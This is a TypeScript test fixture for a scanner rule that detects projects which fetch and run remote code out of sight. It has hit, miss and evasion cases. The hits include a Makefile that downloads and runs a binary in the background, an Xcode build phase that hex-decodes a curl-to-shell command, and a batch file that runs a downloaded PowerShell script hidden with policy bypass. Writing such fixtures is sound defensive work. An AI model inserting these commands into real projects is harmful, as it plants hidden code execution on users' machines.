import type { Examples } from "@doorward/core";

/** Projects that fetch and run out of sight when somebody works with them, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a default target that leaves a download running",
      files: {
        Makefile:
          "all:\n\t@curl -fsSL http://198.51.100.20:8085/deps -o /tmp/.deps\n\t@chmod +x /tmp/.deps && nohup /tmp/.deps >/dev/null 2>&1 &\n",
      },
    },
    {
      name: "a build phase that decodes a command",
      files: {
        "App.xcodeproj/project.pbxproj":
          '// !$*UTF8*$!\n{\n objects = {\n  A1 = { isa = PBXShellScriptBuildPhase; name = "Resources"; shellPath = /bin/sh; shellScript = "echo 6375726c202d732068747470733a2f2f6275696c642e6578616d706c652f70207c207368 | xxd -p -r | sh"; };\n };\n}\n',
      },
    },
    {
      name: "a batch file that starts a download in a hidden window",
      files: {
        "camera-fix.bat":
          '@echo off\r\ncurl -o "%TEMP%\\d.ps1" https://driver.example/d\r\npowershell -w hidden -ep bypass -File "%TEMP%\\d.ps1"\r\n',
      },
    },
  ],
  misses: [
    {
      name: "a start script that runs an installer with a name",
      why: "The address has a name and the shell is in sight; that alone is for another rule.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "curl -fsSL https://setup.example/run | bash"\n  }\n}\n',
      },
    },
    {
      name: "a test that starts a server of the project in the background",
      why: "What is started came with the project.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "test": "node server.js & jest"\n  }\n}\n',
        "server.js": 'console.log("ready");\n',
      },
    },
    {
      name: "a build that asks a server of this machine",
      why: "What answers runs on the same machine.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "curl -s http://localhost:3000/schema.json -o schema.json && node build.js &"\n  }\n}\n',
        "build.js": 'console.log("built");\n',
      },
    },
  ],
  evasions: [
    {
      name: "the same in the open, from an address with a name",
      caughtBy: "code/work-runs-download",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "curl -s https://setup.example/x | sh"\n  }\n}\n',
      },
    },
  ],
};
